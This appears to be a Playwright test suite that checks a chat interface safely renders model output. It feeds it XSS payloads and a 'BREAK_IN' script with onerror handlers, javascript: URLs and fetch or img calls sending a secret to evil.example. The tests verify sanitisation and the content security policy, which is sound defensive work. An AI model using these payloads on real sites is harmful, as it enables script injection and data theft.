"""What a model says is shown, and never run."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Dialog
from playwright.sync_api import Page
from playwright.sync_api import expect

from llm_stream.events import Approval
from llm_stream.events import Data
from llm_stream.events import File
from llm_stream.events import Source
from llm_stream.events import ToolCall
from llm_stream.events import ToolResult

from .conftest import ROOT
from .conftest import Server
from .conftest import eventually
from .routed import Routed

pytestmark = pytest.mark.browser

PAYLOADS = [
    line.replace("\\n", "\n") for line in (ROOT / "tests/xss_payloads.txt").read_text().splitlines()[2:] if line
]
ELEMENTS = set(
    """a article blockquote br button code del details div em figcaption figure h1 h2 h3 h4 h5 h6 hr input li ol p
    pre span strong summary table tbody td th thead tr ul""".split()  # noqa: SIM905
)
ATTRIBUTES = {"class", "href", "target", "rel", "tabindex", "role", "scope", "start", "type", "disabled", "checked"}
ATTRIBUTES |= {"hidden", "open", "data-state", "aria-label", "aria-level", "aria-busy"}
WATCH = """
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));
"""
SEEN = """() => {
    const all = [...document.querySelectorAll(".turn, .turn *")];
    return {
        ran: typeof window.__pwned,
        violations,
        elements: all.map((element) => element.localName),
        attributes: all.flatMap((element) => element.getAttributeNames()),
        foreign: all.filter((element) => element.namespaceURI !== "http://www.w3.org/1999/xhtml").length,
        addresses: all.filter((element) => element.href).map((element) => element.href),
        rels: all.filter((element) => element.href).map((element) => `${element.rel} ${element.target}`),
    };
}"""


class Watched:
    """A page that is open on the site, and everything by which it would show that something ran."""

    def __init__(self, page: Page, site: Server) -> None:
        self.page = page
        self.site = site
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        page.add_init_script(WATCH)
        page.on("dialog", self.dismiss)
        page.on("request", lambda request: self.requests.append(request.url))
        page.goto(site.url)

    def dismiss(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def hear(self, *steps: Any, question: str = "What is it?") -> None:
        """Ask, and wait for the whole answer."""
        assert self.site.upstream
        self.site.upstream.answer(*steps)
        turns = self.page.locator(".turn").count()
        self.page.get_by_label("Message").fill(question)
        self.page.keyboard.press("Enter")
        expect(self.page.locator(".turn").nth(turns)).to_have_attribute("data-state", "completed")

    def check(self) -> None:
        seen = self.page.evaluate(SEEN)
        assert seen["ran"] == "undefined"
        assert seen["violations"] == []  # nothing was even tried
        assert set(seen["elements"]) <= ELEMENTS
        assert set(seen["attributes"]) <= ATTRIBUTES
        assert seen["foreign"] == 0
        assert all(address.startswith(("https://", "http://", "mailto:")) for address in seen["addresses"])
        assert set(seen["rels"]) <= {"noopener noreferrer nofollow _blank"}
        assert self.dialogs == []
        assert [url for url in self.requests if not url.startswith(self.site.url)] == []
        assert [frame.url for frame in self.page.frames] == [f"{self.site.url}/"]
        assert len(self.page.context.pages) == 1


@pytest.fixture
def watched(page: Page, site: Server) -> Watched:
    return Watched(page, site)


def in_a_list(payloads: list[str]) -> str:
    """Each in an item of its own: a tag that is never closed takes in no more than that."""
    return "\n".join("* " + payload.replace("\n", "\n  ") for payload in payloads)


def in_a_table(payloads: list[str]) -> str:
    rows = [f"| {payload.replace('|', '')} | **{payload.replace('|', '')}** |" for payload in payloads]
    return "\n".join(["| a | b |", "|---|---|", *[row.replace("\n", " ") for row in rows]])


def test_there_are_many_payloads_and_they_work(page: Page, site: Server) -> None:
    """Without our care, and without the policy, they run: they would be noticed."""
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 50
    page.goto(f"{site.url}/worker")
    counted = [payload.replace("__pwned=1", "__pwned=-~window.__pwned") for payload in PAYLOADS if "<img" in payload]
    put = """payloads => {
        for (const payload of payloads) document.body.appendChild(document.createElement("div")).innerHTML = payload;
    }"""
    page.evaluate(put, counted)
    # how many of those with the same address are told that it failed, differs from one run to the next
    eventually(lambda: page.evaluate("window.__pwned ?? 0") >= 3, "the work of three payloads")


@pytest.mark.parametrize("size", [10_000, 1, 7], ids=["whole", "by character", "in the middle of tags"])
def test_nothing_runs_however_the_answer_is_cut(watched: Watched, size: int) -> None:
    text = in_a_list(PAYLOADS)
    watched.hear(*[text[at : at + size] for at in range(0, len(text), size)])
    watched.check()
    expect(watched.page.locator(".answer")).to_contain_text("<script src=//evil.example/x.js></script>")
    assert watched.page.locator(".answer > ul > li").count() >= len(PAYLOADS)


def test_nothing_runs_wherever_it_stands(watched: Watched) -> None:
    together = "\n\n".join(PAYLOADS)
    reasoning = {"choices": [{"index": 0, "delta": {"reasoning_content": in_a_list(PAYLOADS)}, "finish_reason": None}]}
    watched.hear(reasoning, together, question=together)
    watched.hear(in_a_table(PAYLOADS))
    watched.hear("\n\n".join(f"```html\n{payload}\n```" for payload in PAYLOADS if "`" not in payload))
    watched.hear(" ".join(payload.replace("\n", " ") for payload in PAYLOADS))
    watched.page.locator(".reasoning summary").first.click()
    expect(watched.page.locator(".hljs-tag").first).to_be_attached()
    watched.check()
    watched.page.reload()
    expect(watched.page.locator(".turn")).to_have_count(4)
    watched.check()


def test_nothing_runs_in_what_an_answer_has_beside_its_text(watched: Watched) -> None:
    server = Routed(watched.page)
    for payload in PAYLOADS:
        server.answer(
            ToolCall(0, payload, "a", payload, server=True),
            ToolResult("a", payload, {payload: payload}),
            ToolCall(1, "{}", payload, payload, server=True),
            ToolResult(payload, payload, error=payload),
            Source(payload, payload),
            Source("https://a.example/" + payload, payload),
            File(payload, payload, payload),
            File(f"data:image/svg+xml,{payload}", "image/svg+xml", payload),
            File(f"data:text/html,{payload}", "text/html", payload),
            File(f"data:image/png;base64,{payload}", "image/png", payload),
            Data(payload, payload),
            ToolCall(2, payload, "open", payload, server=True),
            Approval(payload, "open", payload),
        )
        watched.page.get_by_label("Message").fill(payload)
        watched.page.keyboard.press("Enter")
        turn = watched.page.locator(".turn").last
        expect(turn).to_have_attribute("data-state", "completed")
        expect(turn.locator(".data")).to_have_count(1)
        expect(turn.get_by_role("button", name="Allow")).to_be_visible()
        watched.page.get_by_role("button", name="New conversation").click()
        watched.check()
    watched.page.reload()
    expect(watched.page.locator("#conversations .open")).to_have_count(len(PAYLOADS))
    watched.page.locator("#conversations .open").first.click()
    expect(watched.page.locator(".data")).to_have_count(1)
    watched.check()


EACH_PREFIX = """async payloads => {
    const { Markdown } = await import("/static/markdown.js");
    for (const payload of payloads) {
        const answer = document.body.appendChild(Object.assign(document.createElement("div"), { className: "turn" }));
        const markdown = new Markdown(answer);
        for (let end = 1; end < payload.length; end++) markdown.show(payload.slice(0, end));
        markdown.show(payload, true);
    }
}"""


def test_nothing_runs_at_any_moment_of_its_being_written(watched: Watched) -> None:
    watched.page.evaluate(EACH_PREFIX, PAYLOADS)
    expect(watched.page.locator(".hljs-tag").first).to_be_attached()  # the highlighter comes later
    watched.check()


BREAK_IN = """() => {
    const add = (name, properties) =>
        document.body.appendChild(Object.assign(document.createElement(name), properties));
    for (const attempt of [
        () => { document.body.innerHTML += "<img src=x onerror=__pwned=1>"; },
        () => document.body.lastElementChild.setAttribute("onclick", "__pwned=1"),
        () => document.body.lastElementChild.click(),
        () => add("script", { textContent: "__pwned=1" }),
        () => add("script").append("__pwned=1"),
        () => add("script", { src: "https://evil.example/x.js" }),
        () => setTimeout("__pwned=1"),
        () => trustedTypes.createPolicy("mine", { createHTML: (html) => html }),
        () => add("iframe", { srcdoc: "<script>parent.__pwned=1</script>" }),
        () => add("iframe", { src: "javascript:parent.__pwned=1" }),
        () => { location = "javascript:__pwned=1"; },
        () => add("img", { src: "https://evil.example/?secret" }),
        () => add("link", { rel: "stylesheet", href: "https://evil.example/x.css" }),
        () => document.body.setAttribute("style", "color: red"),
        () => fetch("https://evil.example/?secret").catch(() => {}),
    ]) try { attempt(); } catch {}
}"""


def test_a_script_that_got_in_all_the_same_would_not_run(watched: Watched) -> None:
    """The second wall: the page's policy."""
    watched.page.evaluate(BREAK_IN)
    refused = {
        "require-trusted-types-for",
        "trusted-types",
        "img-src",
        "style-src-elem",
        "style-src-attr",
        "connect-src",
    }
    eventually(lambda: refused <= set(watched.page.evaluate("violations")), "the refusals")
    assert watched.page.evaluate("typeof window.__pwned") == "undefined"


def test_the_policy_allows_files_of_the_site_and_nothing_else(site: Server) -> None:
    headers = site.get("/").headers
    policy = dict(part.split(" ", 1) for part in headers["Content-Security-Policy"].split("; "))
    assert policy["default-src"] == "'none'"
    assert set(policy.values()) == {"'none'", "'self'", "'self' data:", "'script'", "dompurify"}
    assert policy["require-trusted-types-for"] == "'script'"
    assert {"base-uri", "form-action", "frame-ancestors"} <= {name for name in policy if policy[name] == "'none'"}
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["X-DNS-Prefetch-Control"] == "off"
